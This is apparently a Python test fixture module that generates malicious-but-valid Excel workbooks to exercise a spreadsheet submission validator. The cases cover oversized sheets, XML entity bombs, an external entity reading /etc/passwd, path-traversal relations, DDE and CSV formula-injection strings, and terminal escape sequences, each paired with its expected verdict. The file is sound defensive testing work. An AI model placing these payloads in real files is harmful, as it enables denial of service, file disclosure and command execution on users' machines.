"""Hostile workbooks whose archive is sound: sheets, cells, texts, XML."""

from packages import (HEADER, MAIN, REL, ROWS, escape, letters, member, parts_of, progress, sheet,
                      shared_strings, submission, table, xlsx, zipped)

REFUSED = ("not:unreadable-file",)
READ = ("read",)
LARGE = ("file-too-large",)
SHEET = ("unreadable-sheet|unreadable-file",)


def row(number, *cells, attributes=""):
    return f'<row r="{number}" {attributes}>{"".join(cells)}</row>'


def raw(text):
    """A cell's XML in which @ stands for its reference."""
    return (text,)


def answers(*rows, extra=""):
    return xlsx(progress(list(rows) or None, extra))


def text(at, value):
    return f'<c r="{at}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def many_sheets(count):
    return zipped(parts_of([member(), ("Progress", progress())]
                           + [(f"S{i}", sheet("")) for i in range(count)]))


def listed_sheets(count):
    """Sheets that are only listed, all with one part."""
    names = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="r{i}"/>' for i in range(count))
    targets = "".join(f'<Relationship Id="r{i}" Type="{REL}/worksheet" '
                      'Target="worksheets/sheet2.xml"/>' for i in range(count))
    return xlsx(workbook=f'<workbook {MAIN} xmlns:r="{REL}"><sheets>{names}</sheets></workbook>'.encode(),
                rels=f"<Relationships>{targets}</Relationships>".encode())


def sheet_names(*names):
    return zipped(parts_of([member(), ("Progress", progress())] + [(n, sheet("")) for n in names]))


def relation(target, mode=""):
    parts = parts_of([member(), ("Progress", progress())], targets=["worksheets/sheet1.xml", target])
    name = "xl/_rels/workbook.xml.rels"
    if mode:
        parts[name] = parts[name].replace(b'Target="' + target.encode(),
                                          f'TargetMode="{mode}" Target="{target}'.encode())
    return zipped(parts)


def filled(rows, columns, value="1"):
    """A sheet full of one number, as small as it can be written."""
    one = "<row>" + f"<c><v>{value}</v></c>" * columns + "</row>"
    return sheet(one * rows)


def beside(data):
    return zipped(parts_of([member(), ("Progress", progress()), ("Notes", data)]))


def garbage_rows(count, *cells):
    head = table([HEADER])
    one = "<row>" + "".join(f'<c t="s"><v>{cell}</v></c>' for cell in cells) + "</row>"
    return sheet(head + one * count)


def strings_bomb():
    """One long shared text, used a million times."""
    data = sheet(("<row>" + '<c t="s"><v>0</v></c>' * 100 + "</row>") * 10_000)
    parts = parts_of([member(), ("Progress", progress()), ("Notes", data)],
                     shared_strings(["long " * 6_500]))
    return zipped(parts)


def laughs():
    head = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
    body = progress().decode().split("?>", 1)[1]
    return xlsx((head + body.replace("G1a", "&a9;")).encode())


def external():
    head = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    body = progress().decode().split("?>", 1)[1]
    return xlsx((head + body.replace("G1a", "&f;")).encode())


def utf16():
    body = progress().decode().replace('"UTF-8"', '"UTF-16"')
    return xlsx(b"\xFF\xFE" + body.encode("utf-16-le"))


def styled(count):
    formats = "".join(f'<xf numFmtId="{14 + i % 2}"/>' for i in range(count))
    styles = f"<styleSheet {MAIN}><cellXfs>{formats}</cellXfs></styleSheet>".encode()
    return zipped({**submission(dated(45_000.5, style=0)), "xl/styles.xml": styles})


def dated(*numbers, style=0):
    rows = [["G1a", "", "Planned", 10, "", "", raw(f'<c r="@" s="{style}"><v>{n}</v></c>')]
            for n in numbers]
    return progress(rows)


def serials():
    styles = f'<styleSheet {MAIN}><cellXfs><xf numFmtId="14"/></cellXfs></styleSheet>'.encode()
    data = dated("-1", "0", "60", "1e300", "-1e300", "2958466", "99999999999")
    return zipped({**submission(data), "xl/styles.xml": styles})


def percents(*numbers):
    return answers(*[["G1a", "", "Planned", raw(f'<c r="@"><v>{n}</v></c>')] for n in numbers])


def statuses(*texts):
    return answers(*[["G1a", "", status] for status in texts])


def comments(*texts):
    return answers(*[["G1a", "", "Planned", 10, "", "", "", "", comment] for comment in texts])


def in_progress(xml):
    return xlsx(sheet(table([HEADER, *ROWS]) + xml))


def prefixed():
    xml = progress([["G1a", "", raw('<c r="@"><f>A1</f></c>')], *ROWS[1:]]).decode()
    head, body = xml.split("?>", 1)
    body = body.replace("xmlns=", "xmlns:x=").replace("</", "\0").replace("<", "<x:")
    return xlsx((head + "?>" + body.replace("\0", "</x:")).encode())


FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "=HYPERLINK(\"http://example.org/?\"&A1)", "\t=1+1", "\r=1+1", "＝1+1",
            "=DDE(\"cmd\";\"/C calc\";\"x\")"]
SIGNS = ["\u202egnp.exe", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\u2066x\u2069", "a\u0000b",
         "\u200b\u200b", "\ufeffIn progress", "\x7f\x08\x08", "z" + "\u0301" * 5000]

CASES = [
    ("2,000 sheets.xlsx", "2,000 sheets", LARGE, lambda: many_sheets(2000)),
    ("250,000 sheets.xlsx", "250,000 sheets listed, all the same part", LARGE,
     lambda: listed_sheets(250_000)),
    ("sheet names.xlsx", "sheet names with slashes, quotes, emoji, control characters, 500 letters", READ,
     lambda: sheet_names("a/b\\c", "it's \"quoted\"", "📈🏳️‍🌈", "\x1b[31mred", "../../etc/passwd", "",
                         "x" * 500, "=1+1", "\u202egnp")),
    ("duplicate sheet names.xlsx", "two sheets named Progress", ("unreadable-sheet",),
     lambda: zipped(parts_of([member(), ("Progress", progress()),
                              ("Progress", progress([["G1a", "", "Implemented"]]))]))),
    ("sheet part missing.xlsx", "a relation to a part that is not there", SHEET,
     lambda: relation("worksheets/sheet99.xml")),
    ("relation climbing.xlsx", "a relation that climbs out of the package", SHEET,
     lambda: relation("../../../../etc/passwd")),
    ("relation outside.xlsx", "a relation to a web address", SHEET,
     lambda: relation("http://example.org/sheet.xml", "External")),
    ("opposite corners.xlsx", "two cells at opposite corners of the grid", READ,
     lambda: in_progress(row(1_048_576, text("XFD1048576", "far")))),
    ("outside the grid.xlsx", "a cell in column ZZZZ and row 99,999,999", SHEET,
     lambda: in_progress(row(99_999_999, text("ZZZZ99999999", "out")))),
    ("row numbers.xlsx", "rows numbered 0, -5, 4294967297 and 1e9", SHEET,
     lambda: in_progress("".join(row(n, "<c><v>1</v></c>") for n in ["0", "-5", "4294967297", "1e9"]))),
    ("rows out of order.xlsx", "rows from the last to the first", READ,
     lambda: xlsx(sheet("".join(reversed([table([cells], n) for n, cells in
                                          enumerate([HEADER, *ROWS], 1)]))))),
    ("one cell twice.xlsx", "two different answers in one cell", ("some",),
     lambda: in_progress(row(5, text("A5", "G3b"), text("C5", "Planned"), text("C5", "Implemented")))),
    ("3 million cells.xlsx", "3 million cells", LARGE, lambda: beside(filled(30_000, 100))),
    ("200,000 rows of answers.xlsx", "a million cells in 200,000 rows that name no commitment",
     LARGE,
     lambda: zipped(submission(garbage_rows(200_000, 0, 1, 2, 1, 1),
                               shared=shared_strings(["X9z", "zzz", "Implementing"])))),
    ("200,000 equal rows.xlsx", "one commitment answered 200,000 times", LARGE,
     lambda: zipped(submission(garbage_rows(200_000, 0, 1, 2),
                               shared=shared_strings(["G1a", "text", "Planned"])))),
    ("200,000 hidden rows.xlsx", "200,000 answers in hidden rows", LARGE,
     lambda: zipped(submission(garbage_rows(200_000, 0, 1, 2).replace(
         b"<row>", b'<row hidden="1">'), shared=shared_strings(["G1a", "text", "Planned"])))),
    ("19,000 rows of answers.xlsx", "as many rows of findings as the limits allow", ("unknown-status",),
     lambda: zipped(submission(garbage_rows(19_000, 0, 1, 2, 2, 2, 2, 2, 2, 2), shared=shared_strings(
         ["G1a", "text", "=zzz x@example.org"])))),
    ("19,000 hidden rows.xlsx", "19,000 answers in hidden rows, and a million hidden rows without",
     ("hidden-rows",),
     lambda: zipped(submission(garbage_rows(19_000, 0, 1, 2).replace(b"<row>", b'<row hidden="1">')
                               .replace(b"</sheetData>", b'<row hidden="1"/>' * 1_000_000
                                        + b"</sheetData>"),
                               shared=shared_strings(["G1a", "text", "Planned"])))),
    ("a million hidden rows.xlsx", "a million hidden rows without cells", READ,
     lambda: in_progress('<row hidden="1"/>' * 1_000_000)),
    ("a million formulas.xlsx", "a million formulas without a value",
     LARGE,
     lambda: in_progress(("<row>" + "<c><f>A1</f></c>" * 9 + "</row>") * 110_000)),
    ("a cell of a million letters.xlsx", "one comment of a million letters", ("text-too-long",),
     lambda: comments("x" * 1_000_000)),
    ("a cell of 10 million letters.xlsx", "one comment of 10 million letters", LARGE,
     lambda: comments("x" * 10_000_000)),
    ("long statuses.xlsx", "2,000 statuses of 32,000 letters each", ("unknown-status",),
     lambda: zipped(submission(garbage_rows(2_000, 0, 1, 2), shared=shared_strings(
         ["G1a", "text", "In progres " * 2_900])))),
    ("long names.xlsx", "a member name of 10 million letters", ("some",), lambda: xlsx(
        member=sheet(table([["Member ID", "y" * 1_000_000], ["Member name", "x" * 10_000_000]])))),
    ("16,384 statuses.xlsx", "a header row of 16,384 times Status", ("duplicated-column",),
     lambda: xlsx(sheet(table([["Commitment ID", "Comments"] + ["Status"] * 16_382, ["G1a", "", "Planned"]])))),
    ("shared string missing.xlsx", "a shared text that is not there", ("unreadable-sheet",),
     lambda: xlsx(garbage_rows(1, 0, 1, 99_999_999), shared=shared_strings(["G1a", "text"]))),
    ("uniqueCount.xlsx", "shared texts that announce 4 billion", LARGE,
     lambda: xlsx(shared=shared_strings(["a"], 'uniqueCount="4000000000"'))),
    ("uniqueCount with spaces.xlsx", "the same, written with spaces", LARGE,
     lambda: xlsx(shared=shared_strings(["a"], "uniqueCount  =\n  '4000000000'"))),
    ("uniqueCount far in.xlsx", "the same, behind 5,000 other letters", LARGE,
     lambda: xlsx(shared=b"<!--" + b"x" * 5000 + b"-->" +
                  shared_strings(["a"], 'uniqueCount="4000000000"'))),
    ("uniqueCount beyond all.xlsx", "shared texts that announce a number of 23 digits", LARGE,
     lambda: xlsx(shared=shared_strings(["a"], 'uniqueCount="99999999999999999999999"'))),
    ("shared strings bomb.xlsx", "one text of 32,500 letters used a million times", LARGE, strings_bomb),
    ("shared string of 100 MB.xlsx", "one shared text of 100 million letters", LARGE,
     lambda: xlsx(shared=shared_strings(["x" * 100_000_000]))),
    ("billion laughs.xlsx", "entities that multiply to a billion", ("unreadable-sheet",), laughs),
    ("external entity.xlsx", "an entity that names a file of the machine", ("unreadable-sheet",),
     external),
    ("UTF-16 sheet.xlsx", "the sheet's XML in UTF-16", ("some", "unreadable-sheet"), utf16),
    ("deep XML.xlsx", "100,000 elements within one another", ("some",),
     lambda: xlsx(sheet(table([HEADER, *ROWS]), before="<a>" * 100_000 + "</a>" * 100_000))),
    ("deep cell.xlsx", "100,000 elements within one another in a cell", ("some",),
     lambda: in_progress(row(5, '<c r="A5" t="inlineStr">' + "<is>" * 100_000 + "</is>" * 100_000
                             + "</c>"))),
    ("invalid UTF-8.xlsx", "bytes in the sheet's XML that are no text", ("some",),
     lambda: xlsx(progress().replace(b"In progress", b"In \xff\xfe\xc0\x80 progress"))),
    ("unclosed XML.xlsx", "the sheet's XML ends inside a cell", ("unreadable-sheet",),
     lambda: xlsx(progress()[:-60])),
    ("long attribute.xlsx", "an attribute of 50 million letters", LARGE,
     lambda: in_progress(row(5, attributes='ht="' + "9" * 50_000_000 + '"'))),
    ("many attributes.xlsx", "an element of a million attributes", LARGE,
     lambda: in_progress(row(5, attributes=" ".join(f'a{i}="1"' for i in range(1_000_000))
                             + ' hidden="1"'))),
    ("many attributes of a sheet.xlsx", "a listed sheet of 300,000 attributes", ("some",),
     lambda: xlsx(workbook=submission()["xl/workbook.xml"].replace(
         b"<sheet ", b"<sheet " + " ".join(f'a{i}="1"' for i in range(300_000)).encode() + b" "))),
    ("new errors.xlsx", "the error values #SPILL!, #CALC! and #FIELD!", ("unreadable-sheet",),
     lambda: answers(*[["G1a", "", raw(f'<c r="@" t="e"><v>{e}</v></c>')]
                       for e in ("#SPILL!", "#CALC!", "#FIELD!")])),
    ("error values.xlsx", "the error values #REF! and #N/A", ("formula-error",),
     lambda: answers(*[["G1a", "", raw(f'<c r="@" t="e"><v>{e}</v></c>')] for e in ("#REF!", "#N/A")])),
    ("shared formulas.xlsx", "shared formulas numbered up to 4,294,967,295 over the whole grid", ("some",),
     lambda: in_progress("".join(row(5 + i, f'<c r="C{5 + i}"><f t="shared" si="{si}" '
                                     'ref="A1:XFD1048576">A1</f><v>1</v></c>')
                                 for i, si in enumerate([4294967295, 4294967294, -1, 10**18])))),
    ("merged cells.xlsx", "a merge over the whole grid, one reversed, one outside", READ,
     lambda: xlsx(sheet(table([HEADER, *ROWS]), after='<mergeCells><mergeCell ref="A1:XFD1048576"/>'
                        '<mergeCell ref="C9:A2"/><mergeCell ref="ZZZZ1:A0"/></mergeCells>'))),
    ("formula injection.xlsx", "comments that a spreadsheet would run", ("formula-like-text",),
     lambda: comments(*FORMULAS)),
    ("control signs.xlsx", "direction overrides, terminal sequences, NUL, 5,000 accents on one letter",
     ("some",),
     lambda: statuses(*SIGNS, *SIGNS)),
    ("control sign escapes.xlsx", "escape characters written as _x001B_ and &#27;", ("some",),
     lambda: xlsx(progress([["G1a", "", "_x001B_[2J"], ["G1b", "", "Planned"]]).replace(
         b"Planned", b"&#27;[2J"))),
    ("=cmd|calc \u202egnp\x1b[2J.xlsx", "a hostile file name", READ, xlsx),
    ("new\nline, \"quoted\".xlsx", "a file name with a line break, a comma and quotation marks", READ, xlsx),
    ("dates.xlsx", "serial dates -1, 0, 60, 1e300 and beyond the year 9999",
     ("unreadable-date|date-outside-period",), serials),
    ("5 million styles.xlsx", "5 million cell styles", LARGE, lambda: styled(5_000_000)),
    ("style missing.xlsx", "a cell in a style that is not there", ("some",),
     lambda: xlsx(dated(45_000, style=4_294_967_295))),
    ("ISO dates.xlsx", "dates of type d that are none", ("some", "unreadable-date"),
     lambda: answers(*[["G1a", "", "Planned", 10, "", "", raw(f'<c r="@" t="d"><v>{d}</v></c>')]
                       for d in ("2026-99-99", "20é26-01-01", "", "0000-00-00T99:99")])),
    ("odd numbers.xlsx", "percentages NaN, inf, -0, 1e309 and 5e-324",
     ("some", "percent-out-of-range|unreadable-percent"),
     lambda: percents("NaN", "inf", "-inf", "-0", "1e309", "5e-324", "1.7976931348623157e308")),
    ("numbers with spaces.xlsx", "a number with white space in it", ("some",),
     lambda: percents(" 40 ", "4 0")),
    ("booleans.xlsx", "true and false as statuses, one of them neither", ("some",),
     lambda: answers(*[["G1a", "", raw(f'<c r="@" t="b"><v>{b}</v></c>')] for b in ("1", "0", "7")])),
    ("unknown cell type.xlsx", "a cell of a type nobody knows", ("some",),
     lambda: answers(["G1a", "", raw('<c r="@" t="zzz"><v>1</v></c>')])),
    ("hidden in single quotes.xlsx", "an answer in a row hidden with hidden='1'", ("hidden-rows",),
     lambda: in_progress(row(5, text("A5", "G2a"), text("C5", "Planned"), attributes="hidden='1'"))),
    ("named with a prefix.xlsx", "every element of the sheet has a prefix, a formula has no value",
     ("formula-without-value", "not:unreadable-sheet"), prefixed),
    ("very hidden.xlsx", "the answers stand on a sheet that only a macro can show", ("some",),
     lambda: xlsx(workbook=submission()["xl/workbook.xml"].replace(
         b'name="Progress"', b'name="Progress" state="veryHidden"'))),
    ("chart sheets.xlsx", "a sheet named Progress that is a chart", ("some",),
     lambda: xlsx(rels=submission()["xl/_rels/workbook.xml.rels"].replace(
         b"/worksheet\" Target=\"worksheets/sheet2", b"/chartsheet\" Target=\"worksheets/sheet2"))),
]
